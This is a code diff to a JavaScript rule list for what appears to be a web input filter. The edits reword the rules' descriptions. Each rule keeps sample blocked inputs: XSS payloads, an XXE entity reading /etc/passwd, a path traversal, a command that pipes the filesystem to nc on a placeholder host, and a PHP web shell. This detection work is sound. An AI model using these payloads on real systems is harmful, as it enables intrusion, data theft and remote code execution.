@@ -133,7 +133,7 @@ export const RULES = [
   {
     id: 'script-tag',
     severity: 'critical',
-    finds: 'A script element. In prose, only one with active code or an external source.',
+    finds: 'A script element. In prose, the rule matches only an element with active code or an external source.',
     blocked: prose('<script>alert(1)</script>'),
     passes: prose('Training: the <script> element in HTML'),
     patterns: { ...machine(SCRIPT_TAGS), ...written(PROSE_SCRIPT_TAGS) },
@@ -143,7 +143,8 @@ export const RULES = [
   {
     id: 'script-element',
     severity: 'high',
-    finds: 'An HTML element. In prose, only one that runs code through an event handler or its URL.',
+    finds:
+      'An HTML element. In prose, the rule matches only an element that runs code through an event handler or its URL.',
     blocked: prose('<img src=x onerror=alert(1)>'),
     passes: prose('Prices <500 EUR, see <b>Annex A</b> and <anna@example.com>'),
     patterns: { ...machine(ELEMENTS), ...written(PROSE_ELEMENTS) },
@@ -181,7 +182,7 @@ export const RULES = [
   {
     id: 'xml-entity',
     severity: 'high',
-    finds: 'An XML document type or entity. In prose, only an entity that reads a file.',
+    finds: 'An XML document type or entity. In prose, the rule matches only an entity that reads a file.',
     blocked: prose('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
     passes: prose('Entity <Holding> and its system <draft>'),
     patterns: { ...machine(ENTITIES), ...written(PROSE_ENTITIES) },
@@ -191,7 +192,7 @@ export const RULES = [
   {
     id: 'path-traversal',
     severity: 'high',
-    finds: 'A path that leaves its folder. In prose, only a complete path to a system file.',
+    finds: 'A path that leaves its folder. In prose, the rule matches only a complete path to a system file.',
     blocked: strict('.../.../win.ini'),
     passes: prose('See ../../Schedule 2'),
     patterns: {
@@ -216,7 +217,7 @@ export const RULES = [
     id: 'path-hidden',
     severity: 'medium',
     finds:
-      'A request for files and folders that begin with a dot (`/.well-known` excepted), and for private files of other server software.',
+      'A request for files and folders that begin with a dot (except `/.well-known`), and for private files of other server software.',
     blocked: { place: 'path', text: '/app/.env' },
     passes: { place: 'path', text: '/.well-known/security.txt' },
     patterns: { path: HIDDEN_FILES },
@@ -242,7 +243,7 @@ export const RULES = [
     id: 'command-chain',
     severity: 'critical',
     finds:
-      "A shell command after another command and `;`, `|`, `&` or a line break. In prose, only one that reads the system's passwords.",
+      "A shell command after another command and `;`, `|`, `&` or a line break. In prose, the rule matches only a command that reads the system's passwords.",
     blocked: strict('; tar cf - / | nc host 80'),
     passes: prose('report.pdf; rm -rf dist'),
     patterns: machine(CHAINS),
@@ -252,7 +253,7 @@ export const RULES = [
     id: 'command-code',
     severity: 'critical',
     finds:
-      'Code that a server would run: Bash functions in variables, server-side includes, PHP, calls to `system` and similar functions. In prose, only web shells and reverse shells.',
+      'Code that a server would run: Bash functions in variables, server-side includes, PHP, calls to `system` and similar functions. In prose, the rule matches only web shells and reverse shells.',
     blocked: prose("<?php system($_GET['cmd']); ?>"),
     passes: prose('The system (as delivered) may exec changes'),
     patterns: { ...machine(CODE), ...written(PROSE_CODE) },
